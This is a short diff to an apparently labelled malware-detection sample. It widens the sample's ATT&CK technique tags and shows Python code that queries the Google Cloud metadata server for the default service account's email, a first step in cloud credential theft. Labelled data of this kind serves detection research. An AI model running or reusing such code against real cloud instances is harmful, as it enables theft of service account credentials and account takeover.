@@ -1,4 +1,4 @@
-# label: malicious family=metadata techniques=T1552.005,T1528,T1098.001 lines=3-6,8-9
+# label: malicious family=metadata techniques=T1041,T1074.001,T1098.001,T1528,T1550.001,T1552.005,T1564.001 lines=3-6,8-9
 import requests
 h = {"Metadata-Flavor": "Google"}
 email = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/email", headers=h).text
